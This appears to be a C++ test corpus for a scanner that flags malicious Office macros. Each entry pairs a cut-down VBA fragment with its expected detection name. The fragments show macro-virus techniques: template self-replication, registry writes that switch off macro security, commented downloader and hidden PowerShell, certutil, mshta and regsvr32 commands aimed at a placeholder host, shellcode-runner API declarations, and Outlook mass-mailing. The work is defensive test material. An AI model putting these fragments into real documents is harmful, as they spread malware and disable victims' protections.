// Positive module corpus: for every behaviour rule, fragments that carry the characteristic
// names, strings and calls (the families are in positive_families.cpp). They are not working code: loops,
// targets and payloads are cut out, and every address is a reserved example name.
#include "tests/signature_set/corpus.h"

namespace qv::test::sigset {
namespace {

constexpr char kSelfReplicate[] = "Macro.Heur.AutoExec.SelfReplicate";
constexpr char kDownloader[] = "Macro.Heur.AutoExec.Downloader";
constexpr char kShellcode[] = "Macro.Heur.AutoExec.ShellcodeRunner";
constexpr char kLauncher[] = "Macro.Heur.AutoExec.ShellLauncher";
constexpr char kProtection[] = "Macro.Heur.AutoExec.DisableProtection";
constexpr char kMassMailer[] = "Macro.Heur.AutoExec.MassMailer";
constexpr char kConcept[] = "Macro.Word97.Concept";

std::vector<CorpusCase> Behaviours() {
  return {
      // ---- self-replication ----
      {"SelfReplicate: Document_Close writes lines into the global template",
       DocumentModule("ThisDocument", R"vba(Private Sub Document_Close()
On Error Resume Next
Set target = NormalTemplate.VBProject.VBComponents(1).CodeModule
Set source = ThisDocument.VBProject.VBComponents(1).CodeModule
If target.CountOfLines < 2 Then target.InsertLines 1, source.Lines(1, source.CountOfLines)
End Sub
)vba"),
       {kSelfReplicate}},
      {"SelfReplicate: Workbook_Open imports a module file into the active workbook",
       DocumentModule("ThisWorkbook", R"vba(Private Sub Workbook_Open()
Dim f As String
f = Environ("TEMP") & "\m.bas"
ActiveWorkbook.VBProject.VBComponents.Import f
End Sub
)vba"),
       {kSelfReplicate}},
      {"SelfReplicate: AutoOpen copies its project items with the organizer",
       StandardModule("Module1", R"vba(Sub AutoOpen()
Application.OrganizerCopy Source:=ActiveDocument.FullName, Destination:=NormalTemplate.FullName, _
    Name:="Module1", Object:=wdOrganizerObjectProjectItems
End Sub
)vba"),
       {kSelfReplicate}},
      {"SelfReplicate: Auto_Open saves a copy into the start-up folder",
       StandardModule("Module1", R"vba(Sub Auto_Open()
If Dir(Application.StartupPath & "\book.xls") = "" Then
    ThisWorkbook.SaveCopyAs Application.StartupPath & "\book.xls"
End If
End Sub
)vba"),
       {kSelfReplicate}},
      {"SelfReplicate: converted AutoExec macro with MacroCopy",
       StandardModule("AutoExec", R"vba(Public Sub MAIN()
WordBasic.MacroCopy WordBasic.[FileName$]() + ":Payload", "Global:Payload", 1
End Sub
)vba"),
       {kSelfReplicate}},
      {"SelfReplicate: a taken-over FileSave adds code from a string",
       StandardModule("Module1", R"vba(Sub FileSave()
ActiveDocument.VBProject.VBComponents(1).CodeModule.AddFromString body
ActiveDocument.Save
End Sub
)vba"),
       {kSelfReplicate}},
      // ---- protection switched off ----
      {"DisableProtection: Document_Open clears the virus-protection option",
       DocumentModule("ThisDocument", R"vba(Private Sub Document_Open()
Options.VirusProtection = False
Options.SaveNormalPrompt = False
End Sub
)vba"),
       {kProtection}},
      {"DisableProtection: Workbook_Open writes AccessVBOM and VBAWarnings",
       DocumentModule("ThisWorkbook", R"vba(Private Sub Workbook_Open()
Set w = CreateObject("WScript.Shell")
w.RegWrite "HKCU\Software\Microsoft\Office\" & Application.Version & "\Excel\Security\AccessVBOM", 1, "REG_DWORD"
w.RegWrite "HKCU\Software\Microsoft\Office\" & Application.Version & "\Excel\Security\VBAWarnings", 1, "REG_DWORD"
End Sub
)vba"),
       {kProtection}},
      {"DisableProtection: AutoOpen lowers the security level and hides the macro menu",
       StandardModule("Module1", R"vba(Sub AutoOpen()
System.PrivateProfileString("", "HKEY_CURRENT_USER\Software\Microsoft\Office\9.0\Word\Security", "Level") = 1&
CommandBars("Tools").Controls("Macro").Enabled = False
End Sub
)vba"),
       {kProtection}},
      {"DisableProtection: Esc switched off in code that reads the VBA project",
       StandardModule("Module1", R"vba(Sub AutoClose()
Application.EnableCancelKey = wdCancelDisabled
n = NormalTemplate.VBProject.VBComponents.Count
End Sub
)vba"),
       {kProtection}},
      {"DisableProtection: automation security lowered at opening",
       DocumentModule("ThisDocument", R"vba(Private Sub Document_Open()
Application.AutomationSecurity = msoAutomationSecurityLow
End Sub
)vba"),
       {kProtection}},
      // ---- download and run ----
      {"Downloader: AutoOpen with URLDownloadToFile and Shell",
       StandardModule("Module1", R"vba(Private Declare Function URLDownloadToFileA Lib "urlmon" (ByVal a As Long, ByVal b As String, ByVal c As String, ByVal d As Long, ByVal e As Long) As Long
Sub AutoOpen()
' URLDownloadToFileA 0, "http://example.invalid/a", Environ("TEMP") & "\a.exe", 0, 0  (cut)
' Shell Environ("TEMP") & "\a.exe", vbHide  (cut)
End Sub
)vba"),
       {kDownloader}},
      {"Downloader: Document_Open with XMLHTTP and an ADODB stream saved to a file",
       DocumentModule("ThisDocument", R"vba(Private Sub Document_Open()
Set h = CreateObject("MSXML2.XMLHTTP")
h.Open "GET", "http://example.invalid/b", False
Set s = CreateObject("ADODB.Stream")
' s.Write h.responseBody: s.SaveToFile Environ("TEMP") & "\b.bin", 2  (cut)
End Sub
)vba"),
       {kDownloader}},
      {"Downloader: Workbook_Open with WinHttp and Shell.Application",
       DocumentModule("ThisWorkbook", R"vba(Private Sub Workbook_Open()
Set r = CreateObject("WinHttp.WinHttpRequest.5.1")
' r.Open "GET", "http://example.invalid/c": r.Send  (cut)
Set app = CreateObject("Shell.Application")
End Sub
)vba"),
       {kDownloader}},
      {"Downloader: certutil fetching a file from AutoClose",
       StandardModule("Module1", R"vba(Sub AutoClose()
' Shell "certutil -urlcache -split -f http://example.invalid/d d.txt"  (cut)
End Sub
)vba"),
       {kDownloader}},
      {"Downloader: PowerShell download string started from an ActiveX paint event",
       DocumentModule("ThisDocument", R"vba(Private Sub InkPicture1_Painted(ByVal hDC As Long, ByVal Rect As MSINKAUTLib.IInkRectangle)
' CreateObject("WScript.Shell").Run "powershell -c (New-Object Net.WebClient).DownloadString('http://example.invalid/e')"  (cut)
End Sub
)vba"),
       {kDownloader}},
      // ---- run a program of the system ----
      {"ShellLauncher: AutoOpen starts hidden PowerShell",
       StandardModule("Module1", R"vba(Sub AutoOpen()
' Shell "powershell -nop -w hidden -enc AAAA", vbHide  (cut)
End Sub
)vba"),
       {kLauncher}},
      {"ShellLauncher: Workbook_Open runs mshta through WScript.Shell",
       DocumentModule("ThisWorkbook", R"vba(Private Sub Workbook_Open()
' CreateObject("WScript.Shell").Run "mshta about:blank", 0  (cut)
End Sub
)vba"),
       {kLauncher}},
      {"ShellLauncher: Document_Open creates a rundll32 process through WMI",
       DocumentModule("ThisDocument", R"vba(Private Sub Document_Open()
' GetObject("winmgmts:Win32_Process").Create "rundll32.exe x.dll,Start"  (cut)
End Sub
)vba"),
       {kLauncher}},
      {"ShellLauncher: Auto_Close registers a scriptlet with regsvr32",
       StandardModule("Module1", R"vba(Sub Auto_Close()
' x = Shell("regsvr32 /s /n /u /i:x.sct scrobj.dll")  (cut)
End Sub
)vba"),
       {kLauncher}},
      // ---- code run from memory ----
      {"ShellcodeRunner: VirtualAlloc, RtlMoveMemory and CreateThread declared for AutoOpen",
       StandardModule("Module1", R"vba(Private Declare PtrSafe Function VirtualAlloc Lib "kernel32" (ByVal a As LongPtr, ByVal b As Long, ByVal c As Long, ByVal d As Long) As LongPtr
Private Declare PtrSafe Function RtlMoveMemory Lib "kernel32" (ByVal a As LongPtr, ByRef b As Any, ByVal c As Long) As LongPtr
Private Declare PtrSafe Function CreateThread Lib "kernel32" (ByVal a As Long, ByVal b As Long, ByVal c As LongPtr, d As Long, ByVal e As Long, f As Long) As LongPtr
Sub AutoOpen()
' buffer, copy and thread cut
End Sub
)vba"),
       {kShellcode}},
      {"ShellcodeRunner: Workbook_Open with a locale enumeration callback",
       DocumentModule("ThisWorkbook", R"vba(Private Declare PtrSafe Function VirtualAlloc Lib "kernel32" (ByVal a As LongPtr, ByVal b As Long, ByVal c As Long, ByVal d As Long) As LongPtr
Private Declare PtrSafe Function EnumSystemLocalesA Lib "kernel32" (ByVal a As LongPtr, ByVal b As Long) As Long
Private Sub Workbook_Open()
' p = VirtualAlloc(0, 4096, &H3000, &H40): EnumSystemLocalesA p, 0  (cut)
End Sub
)vba"),
       {kShellcode}},
      // ---- precedence: one name per module ----
      {"a downloader that also replicates is named SelfReplicate only",
       StandardModule("Module1", R"vba(Sub AutoOpen()
NormalTemplate.VBProject.VBComponents(1).CodeModule.AddFromString body
' URLDownloadToFile 0, u, f, 0, 0: Shell(f) cut
End Sub
)vba"),
       {kSelfReplicate}},
      {"a launcher that also switches protection off is named ShellLauncher only",
       StandardModule("Module1", R"vba(Sub AutoOpen()
Options.VirusProtection = False
' Shell "cmd /c echo", vbHide  (cut)
End Sub
)vba"),
       {kLauncher}},
      {"the test string beside a family is reported under both names",
       StandardModule("AAAZFS", R"vba(Public Sub MAIN()
' AAAZAO
MsgBox "QUORVANE-MACRO-TEST-SIGNATURE"
End Sub
)vba"),
       {"Macro.Test.Signature", kConcept}},
  };
}

// Module text with a byte of the module's own code page (Windows-1252) that no raw string
// literal can hold.
std::vector<uint8_t> WithByte(std::vector<uint8_t> text, std::string_view before, uint8_t byte) {
  const std::string whole(text.begin(), text.end());
  const size_t at = whole.find(before);
  if (at != std::string::npos) text.insert(text.begin() + static_cast<std::ptrdiff_t>(at + before.size()), byte);
  return text;
}

std::vector<CorpusCase> MailersAndStarts() {
  return {
      // ---- mass mailing: session, address walk, the own file attached, started by itself ----
      {"MassMailer: Document_Open walks Outlook's address lists and attaches the document",
       DocumentModule("ThisDocument", R"vba(Private Sub Document_Open()
On Error Resume Next
Set ol = CreateObject("Outlook.Application")
Set ns = ol.GetNameSpace("MAPI")
' For Each lst In ns.AddressLists: For Each e In lst.AddressEntries ... (loop cut)
Set m = ol.CreateItem(0)
m.Attachments.Add ActiveDocument.FullName
' m.Recipients.Add e.Address: m.Send  (cut)
End Sub
)vba"),
       {kMassMailer}},
      {"MassMailer: Workbook_Open sends the workbook through a CDO session to every entry",
       DocumentModule("ThisWorkbook", R"vba(Private Sub Workbook_Open()
On Error Resume Next
Set s = CreateObject("MAPI.Session")
' s.Logon: Set lst = s.AddressLists(1).AddressEntries  (cut)
Set a = msg.Attachments.Add
a.Source = ThisWorkbook.FullName
End Sub
)vba"),
       {kMassMailer}},
      {"MassMailer: Auto_Close mails the workbook to the contacts folder with SendMail",
       StandardModule("Module1", R"vba(Sub Auto_Close()
Set ns = CreateObject("Outlook.Application").GetNameSpace("MAPI")
Set contacts = ns.GetDefaultFolder(10).Items
' the recipients array is filled from contacts (cut)
ActiveWorkbook.SendMail Recipients:=list, Subject:="Report"
End Sub
)vba"),
       {kMassMailer}},
      {"a mass mailer that also replicates is named MassMailer only",
       DocumentModule("ThisDocument", R"vba(Private Sub Document_Close()
Set ol = CreateObject("Outlook.Application")
' ol.GetNameSpace("MAPI").AddressLists(1).AddressEntries ... (cut)
' mail.Attachments.Add ActiveDocument.FullName  (cut)
NormalTemplate.VBProject.VBComponents(1).CodeModule.InsertLines 1, code
End Sub
)vba"),
       {kMassMailer}},
      // ---- security lowered in the registry ----
      {"DisableProtection: AutoOpen writes a registry file for Word's security and runs regedit",
       StandardModule("Module1", R"vba(Sub AutoOpen()
Open Environ("TEMP") & "\s.reg" For Output As #1
Print #1, "REGEDIT4"
Print #1, "[HKEY_CURRENT_USER\Software\Microsoft\Office\9.0\Word\Security]"
Print #1, """Level""=dword:00000001"
Close #1
' Shell "regedit /s " & Environ("TEMP") & "\s.reg"  (cut)
End Sub
)vba"),
       {kProtection}},
      {"DisableProtection: Word 97's virus warning switched off through a profile string",
       StandardModule("Module1", R"vba(Sub AutoExec()
System.PrivateProfileString("", "HKEY_CURRENT_USER\Software\Microsoft\Office\8.0\Word\Options", "EnableMacroVirusProtection") = "0"
End Sub
)vba"),
       {kProtection}},
      {"DisableProtection: Excel 97's Options6 written through the registry API at closing",
       DocumentModule("ThisWorkbook", R"vba(Private Declare Function RegSetValueExA Lib "advapi32" (ByVal k As Long, ByVal n As String, ByVal r As Long, ByVal t As Long, v As Long, ByVal c As Long) As Long
Private Sub Workbook_BeforeClose(Cancel As Boolean)
' RegOpenKeyExA HKCU, "Software\Microsoft\Office\8.0\Excel\Microsoft Excel" ... (cut)
' RegSetValueExA key, "Options6", 0, 4, 0&, 4  (cut)
End Sub
)vba"),
       {kProtection}},
      {"DisableProtection: reg.exe sets the security level from a new-sheet event",
       DocumentModule("ThisWorkbook", R"vba(Private Sub Workbook_NewSheet(ByVal Sh As Object)
' Shell "reg add HKCU\Software\Microsoft\Office\11.0\Excel\Security /v Level /t REG_DWORD /d 1 /f", vbHide  (cut)
End Sub
)vba"),
       {kProtection}},
      {"DisableProtection: WMI writes AccessVBOM when a content control is entered",
       DocumentModule("ThisDocument", R"vba(Private Sub Document_ContentControlOnEnter(ByVal ContentControl As ContentControl)
Set reg = GetObject("winmgmts:\\.\root\default:StdRegProv")
' reg.SetDWORDValue &H80000001, "Software\Microsoft\Office\14.0\Word\Security", "AccessVBOM", 1  (cut)
End Sub
)vba"),
       {kProtection}},
      // ---- automatic starts the first round did not know ----
      {"SelfReplicate: Spanish Auto_Abrir saves into XLSTART",
       StandardModule("Modulo1", R"vba(Sub Auto_Abrir()
ThisWorkbook.SaveCopyAs Application.Path & "\XLSTART\libro.xls"
End Sub
)vba"),
       {kSelfReplicate}},
      {"SelfReplicate: German Auto_Oeffnen in the module's code page copies its code",
       WithByte(StandardModule("Modul1", R"vba(Sub Auto_ffnen()
ActiveWorkbook.VBProject.VBComponents(1).CodeModule.AddFromString code
End Sub
)vba"),
                "Sub Auto_", 0xD6),
       {kSelfReplicate}},
      {"SelfReplicate: Workbook_SheetActivate imports a module into every workbook",
       DocumentModule("ThisWorkbook", R"vba(Private Sub Workbook_SheetActivate(ByVal Sh As Object)
If ActiveWorkbook.VBProject.VBComponents.Count < 2 Then ActiveWorkbook.VBProject.VBComponents.Import f
End Sub
)vba"),
       {kSelfReplicate}},
      {"SelfReplicate: Document_ContentControlOnExit inserts lines into the global template",
       DocumentModule("ThisDocument", R"vba(Private Sub Document_ContentControlOnExit(ByVal ContentControl As ContentControl, Cancel As Boolean)
NormalTemplate.VBProject.VBComponents(1).CodeModule.InsertLines 1, code
End Sub
)vba"),
       {kSelfReplicate}},
      {"SelfReplicate: an application event of a class module infects every document saved",
       StandardModule("clsHook", R"vba(Public WithEvents appWord As Word.Application
Private Sub appWord_DocumentBeforeSave(ByVal Doc As Document, SaveAsUI As Boolean, Cancel As Boolean)
Doc.VBProject.VBComponents(1).CodeModule.AddFromString code
End Sub
)vba"),
       {kSelfReplicate}},
      {"SelfReplicate: an Excel 5 sheet handler copies the workbook to the start-up folder",
       StandardModule("Module1", R"vba(Sub Install()
Application.OnSheetActivate = "Spread"
End Sub
Sub Spread()
ThisWorkbook.SaveCopyAs Application.StartupPath & "\book1.xls"
End Sub
)vba"),
       {kSelfReplicate}},
      {"SelfReplicate: AUTO_OPEN in capitals",
       StandardModule("Module1", R"vba(SUB AUTO_OPEN()
ThisWorkbook.SaveCopyAs Application.StartupPath & "\book1.xls"
END SUB
)vba"),
       {kSelfReplicate}},
      {"SelfReplicate: converted FileSaveAs module copies macros",
       StandardModule("FileSaveAs", R"vba(Public Sub MAIN()
WordBasic.MacroCopy "Global:Spread", WordBasic.[FileName$]() + ":Spread"
End Sub
)vba"),
       {kSelfReplicate}},
  };
}

}  // namespace

std::vector<CorpusCase> PositiveModules() {
  return Joined({FamilyModules(), Behaviours(), MailersAndStarts()});
}

}  // namespace qv::test::sigset
